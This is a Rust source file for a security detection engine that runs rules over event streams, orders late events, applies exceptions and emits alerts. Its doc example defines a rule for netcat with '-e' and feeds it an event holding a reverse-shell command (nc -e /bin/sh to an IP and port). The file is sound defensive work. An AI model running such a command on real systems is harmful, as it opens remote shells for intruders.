//! Rules and events to alerts.

mod alert;
pub mod coverage;
mod detector;
mod excuse;
pub mod explain;
mod flood;
mod index;
pub mod interest;
mod running;
mod search;

pub use crate::detect::Suppressed;
pub use alert::{Alert, Cause};
pub use search::{Match, ResultPosition, Search, SearchOptions, SearchResults};

use std::cmp::Reverse;
use std::collections::BinaryHeap;
use std::sync::Arc;
use std::time::Duration;

use detector::Detector;
use excuse::Excuses;
use index::Index;
use running::Running;

use crate::detect::{Change, Hit, IndicatorMatch, Indicators, Limits, Ordinal};
use crate::event::{Event, Schema, Timestamp};
use crate::lang::EventQuery;
use crate::rule::{Exception, Kind, Rule};

/// Most events that wait to be put in order.
const UNORDERED_MAX: usize = 65_536;
/// The row of a rule's memory that [`Engine::suspend`] gives.
const HELD: &str = "held";

/// How an engine runs its rules.
#[derive(Clone, Copy, Debug, Default)]
pub struct Options {
    /// What detectors may hold.
    pub limits: Limits,
    /// How much later than newer ones an event may come and still take its place in a sequence, and how long after its
    /// end a bucket of a rare job stays open. Rules that judge single events never wait.
    pub lateness: Duration,
    /// For how long after a new_terms rule's first match terms are only learned.
    pub learn: Duration,
}

/// Runs rules on a stream of events.
///
/// Events go in one after the other with [`push`](Self::push). [`advance`](Self::advance) tells how far the stream has
/// come, which ends time spans: the engine reads no clock. Both give what they found out to an [`Output`].
///
/// ```
/// use lapwing_engine::{Engine, Event, Loaded, Options, Output, Schema};
///
/// let file = r#"
///     [rule]
///     rule_id = "5c5b8b5e-7f3a-4b8e-9d7a-2f1f0d6f7c11"
///     name = "Netcat with -e"
///     description = "A program is tied to a socket."
///     severity = "medium"
///     type = "eql"
///     query = 'process where process.name == "nc" and process.args == "-e"'
/// "#;
/// let mut schema = Schema::new();
/// let loaded = Loaded::read([("nc.toml", file.as_bytes())], &mut schema);
/// assert!(loaded.reports.is_empty());
///
/// let mut engine = Engine::new(schema.into(), &loaded.rules, Options::default());
/// let event = serde_json::json!({
///     "@timestamp": "2026-11-22T03:56:01Z", "event.category": "process",
///     "process": {"name": "nc", "args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]}
/// });
/// let mut output = Output::default();
/// engine.push(Event::from_json(engine.schema(), &event)?, &mut output);
/// assert_eq!(output.alerts[0].rule.name, "Netcat with -e");
/// # Ok::<(), lapwing_engine::EventError>(())
/// ```
pub struct Engine {
    schema: Arc<Schema>,
    running: Vec<Running>,
    /// The rules that are told the time, by their place.
    awake: Vec<usize>,
    index: Index,
    excuses: Excuses,
    lateness: Duration,
    unordered: BinaryHeap<Reverse<Unordered>>,
    arrival: u64,
    /// The number of the last event that an engine before this one was shown.
    arrival_before: u64,
    /// Rows that were put back and are no longer true, to be deleted.
    resumed: Vec<StateChange>,
    released_early: u64,
    /// Room for the parts of a hit, kept from one event to the next.
    parts: Vec<usize>,
}

/// A hit of a rule that needs its events in order.
struct Unordered {
    running: usize,
    hit: Hit,
}

/// What an engine gives back, in the order in which it was found out.
#[derive(Debug, Default)]
pub struct Output {
    /// Alerts.
    pub alerts: Vec<Alert>,
    /// Rows of memory that must survive a restart.
    pub changes: Vec<StateChange>,
}

/// A row of a rule's memory that changed.
#[derive(Clone, Debug, PartialEq)]
pub struct StateChange {
    /// The rule's id.
    pub rule_id: String,
    /// The row.
    pub change: Change,
}

/// Numbers for a status page.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Counters {
    /// Events that were pushed.
    pub events: u64,
    /// What was given up because of a limit: sequences, terms, rare values, counts of thresholds, groups of alerts.
    pub discarded: u64,
    /// Events that took their place in the order before their lateness was over, because too many waited.
    pub released_early: u64,
    /// Bytes held by sequences and samples that are not complete.
    pub sequence_bytes: u64,
    /// Bytes held by what threshold rules count.
    pub threshold_bytes: u64,
}

impl Engine {
    /// An engine that runs those of the rules that are enabled. The schema is the one they were read with.
    #[must_use]
    pub fn new(schema: Arc<Schema>, rules: &[Arc<Rule>], options: Options) -> Self {
        Self::over(schema, rules, options, Index::new)
    }

    /// The same engine, but that every event query is asked about every event by the [reference](crate::detect::naive):
    /// what the one above is compared with, in its answers and in its speed. It is slow.
    #[must_use]
    pub fn naive(schema: Arc<Schema>, rules: &[Arc<Rule>], options: Options) -> Self {
        Self::over(schema, rules, options, Index::naive)
    }

    fn over(
        schema: Arc<Schema>,
        rules: &[Arc<Rule>],
        options: Options,
        index: impl FnOnce(&[Vec<&EventQuery>]) -> Index,
    ) -> Self {
        let running: Vec<_> =
            rules.iter().filter(|rule| rule.enabled).map(|rule| Running::new(rule, options)).collect();
        let queries: Vec<_> = running.iter().map(|running| running.rule.kind.events()).collect();
        let index = index(&queries);
        let mut engine = Self {
            schema,
            awake: Vec::new(),
            running,
            index,
            excuses: Excuses::default(),
            lateness: options.lateness,
            unordered: BinaryHeap::new(),
            arrival: 0,
            arrival_before: 0,
            resumed: Vec::new(),
            released_early: 0,
            parts: Vec::new(),
        };
        for place in 0..engine.running.len() {
            if !engine.running[place].is_idle() {
                engine.wake(place);
            }
        }
        engine
    }

    /// Tells a rule the time from now on.
    fn wake(&mut self, place: usize) {
        if !std::mem::replace(&mut self.running[place].is_awake, true) {
            self.awake.push(place);
        }
    }

    /// The same engine with exceptions, in place of any it had. They are read with the same schema as the rules.
    #[must_use]
    pub fn with_exceptions(mut self, exceptions: &[Arc<Exception>]) -> Self {
        self.excuses = Excuses::new(exceptions);
        self.running.iter_mut().for_each(|running| running.excuses = self.excuses.of(&running.rule));
        self
    }

    /// The same engine with indicators of threats, in place of any it had: what rules of type `threat_match` look for.
    #[must_use]
    pub fn with_indicators(mut self, indicators: &Arc<Indicators>) -> Self {
        for running in &mut self.running {
            if let Kind::ThreatMatch { threat, .. } = &running.rule.kind {
                let found = IndicatorMatch::new(threat, indicators, &self.schema);
                running.detector = Detector::Indicators(found);
            }
        }
        self
    }

    /// The exceptions, each with how often it kept an alert back, or an event from being counted.
    pub fn exceptions(&self) -> impl Iterator<Item = (&Arc<Exception>, u64)> {
        self.excuses.counted()
    }

    /// The schema that events must be read with.
    #[must_use]
    pub fn schema(&self) -> &Arc<Schema> {
        &self.schema
    }

    /// The rules that run.
    pub fn rules(&self) -> impl Iterator<Item = &Arc<Rule>> {
        self.running.iter().map(|running| &running.rule)
    }

    /// Puts back a row that was given out as a [`StateChange`]. Rows of rules that do not run, and rows that cannot be
    /// read, are passed over.
    pub fn restore(&mut self, rule_id: &str, key: &str, value: &[u8]) {
        let Some(place) = self.running.iter().position(|running| running.rule.id == rule_id) else {
            return;
        };
        if key == HELD {
            return self.resume(place, value);
        }
        self.running[place].detector.restore(&self.schema, key, value);
    }

    /// Gives out, as rows, what sequence rules hold of matches that are not complete: an engine to which they are
    /// [put back](Self::restore) before its first event finds what this one would have found. Everything else that must
    /// survive is in rows already. To be called at the end, for the rows tell nothing of what comes after.
    pub fn suspend(&self, output: &mut Output) {
        let mut unjudged: Vec<Vec<&Hit>> = vec![Vec::new(); self.running.len()];
        for Reverse(Unordered { running, hit }) in &self.unordered {
            unjudged[*running].push(hit);
        }
        for (Running { rule, detector, .. }, unjudged) in self.running.iter().zip(&unjudged) {
            if let Some(value) = detector.suspend(&self.schema, rule, unjudged) {
                let change = Change { key: HELD.to_owned(), value: Some(value) };
                output.changes.push(StateChange { rule_id: rule.id.clone(), change });
            }
        }
    }

    fn resume(&mut self, place: usize, value: &[u8]) {
        let Running { rule, detector, .. } = &mut self.running[place];
        let unjudged = detector.resume(&self.schema, rule, value);
        let held =
            unjudged.iter().map(|hit| hit.ordinal.arrival).max().unwrap_or(0).max(detector.latest_arrival());
        self.arrival_before = self.arrival_before.max(held);
        self.arrival = self.arrival.max(held);
        let change = Change { key: HELD.to_owned(), value: None };
        self.resumed.push(StateChange { rule_id: rule.id.clone(), change });
        self.unordered.extend(unjudged.into_iter().map(|hit| Reverse(Unordered { running: place, hit })));
        if !self.running[place].is_idle() {
            self.wake(place);
        }
    }

    /// Shows an event to all rules.
    pub fn push(&mut self, event: impl Into<Arc<Event>>, output: &mut Output) {
        let event = event.into();
        self.arrival += 1;
        let ordinal = Ordinal { time: event.time(), sequence: event.sequence(), arrival: self.arrival };
        self.index.look(&event);
        let mut hit = Hit { event, ordinal, parts: std::mem::take(&mut self.parts) };
        while let Some(running) = self.index.next(&mut hit.parts) {
            if !self.lateness.is_zero() && self.running[running].detector.is_ordered() {
                self.unordered.push(Reverse(Unordered { running, hit: hit.clone() }));
                while self.unordered.len() > UNORDERED_MAX {
                    self.released_early += 1;
                    self.release(output);
                }
            } else {
                self.judge(running, &hit, output);
            }
        }
        self.parts = hit.parts;
    }

    /// Tells that the stream has come to `now`: no event from before `now`, less the lateness, will be judged in order
    /// any more.
    pub fn advance(&mut self, now: Timestamp, output: &mut Output) {
        output.changes.append(&mut self.resumed);
        let now = now - self.lateness;
        while self.unordered.peek().is_some_and(|Reverse(first)| first.hit.ordinal.time <= now) {
            self.release(output);
        }
        // In the order of the rules, so that the same inputs give the same order of alerts.
        self.awake.sort_unstable();
        self.awake.retain(|place| {
            let running = &mut self.running[*place];
            running.advance(&self.schema, &mut self.excuses, now, output);
            running.is_awake = !running.is_idle();
            running.is_awake
        });
    }

    /// Tells that a recorded stream is over: all time spans end. A live stream that stops has no such end.
    pub fn finish(&mut self, output: &mut Output) {
        self.advance(Timestamp::MAX, output);
    }

    /// Numbers for a status page.
    #[must_use]
    pub fn counters(&self) -> Counters {
        let mut counters = Counters {
            events: self.arrival - self.arrival_before,
            released_early: self.released_early,
            ..Counters::default()
        };
        self.running.iter().for_each(|running| running.count(&mut counters));
        counters
    }

    /// Judges the earliest hit that waits.
    fn release(&mut self, output: &mut Output) {
        if let Some(Reverse(Unordered { running, hit })) = self.unordered.pop() {
            self.judge(running, &hit, output);
        }
    }

    fn judge(&mut self, running: usize, hit: &Hit, output: &mut Output) {
        self.running[running].judge(&self.schema, &mut self.excuses, hit, output);
        if !self.running[running].is_idle() {
            self.wake(running);
        }
    }
}

impl PartialEq for Unordered {
    fn eq(&self, other: &Self) -> bool {
        self.cmp(other).is_eq()
    }
}

impl Eq for Unordered {}

impl PartialOrd for Unordered {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for Unordered {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        (self.hit.ordinal, self.running).cmp(&(other.hit.ordinal, other.running))
    }
}
